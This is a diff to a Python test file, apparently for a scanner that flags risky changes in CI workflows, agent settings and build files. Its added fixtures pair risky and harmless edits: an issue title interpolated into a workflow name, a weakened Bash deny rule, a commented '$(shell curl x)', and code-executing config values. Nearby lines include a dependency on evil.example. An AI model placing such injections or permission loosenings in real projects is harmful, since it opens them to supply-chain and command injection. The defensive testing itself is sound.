@@ -49,6 +49,12 @@ FLOW = (
 )
 FLOWS = ".github/workflows/ci.yml"
 CI = [
+    Pair(
+        FLOWS,
+        FLOW,
+        FLOW.replace("name: ci", "name: '${{ github.event.issue.title }}'"),
+        FLOW.replace("name: ci", "name: the title"),
+    ),
     Pair(FLOWS, FLOW, FLOW + "      - run: curl x\n", FLOW + "# - run: curl x\n"),
     Pair(
         FLOWS, FLOW, FLOW.replace("contents: read", "contents: write"), FLOW.replace("contents: read", "contents: none")
@@ -182,6 +188,7 @@ KUBERNETES = [
 SETTINGS = '{"permissions": {"allow": ["Read"], "deny": ["Bash"]}, "theme": "dark"}'
 RULES = "# Rules\n\nAlways write tests.\nNever push.\n"
 AGENTS = [
+    Pair(".claude/settings.json", SETTINGS, SETTINGS.replace('"Bash"', '"Other"'), SETTINGS.replace('["Bash"]', '[ "Bash" ]')),
     Pair(".mcp.json", '{"mcpServers": {}}', '{"mcpServers": {"x": {"command": "npx"}}}', '{"mcpServers":   {}}'),
     Pair(".claude/settings.json", SETTINGS, SETTINGS.replace('"Read"', '"Read", "Bash"'), SETTINGS.replace("dark", "light")),
     Pair(".claude/settings.json", SETTINGS, SETTINGS.replace(', "deny": ["Bash"]', ""), SETTINGS.replace('"Bash"', '"Bash", "Write"')),
@@ -265,6 +272,14 @@ PACKAGES = [
         "package.json", NODE, NODE.replace('"l": "1"', '"l": "git+https://evil.example/l"'), NODE.replace(", ", ",\n  ")
     ),
     Pair("Makefile", MAKE, MAKE + "\tcurl x\n", MAKE + "# curl x\n"),
+    Pair("Makefile", MAKE, MAKE + "\t# $(shell curl x)\n", MAKE + "\t# curl x\n"),
+    Pair("pyproject.toml", PROJECT, PROJECT + "extend = '../x.toml'\n", PROJECT + "extend-select = ['E']\n"),
+    Pair(
+        "setup.cfg",
+        "[metadata]\nname = a\n",
+        "[metadata]\nname = a\nversion = attr: x.y\n",
+        "[metadata]\nname = a\nversion = 1.2\n",
+    ),
     Pair("GNUmakefile", MAKE, MAKE.replace("\ttest -f y || exit 1\n", ""), MAKE.replace("\techo hi\n", "")),
     Pair("Makefile", "X = a\ncurl: x\n", "X = a\n\tcurl: x\n", "X = a\n\ncurl: x\n"),
     Pair(
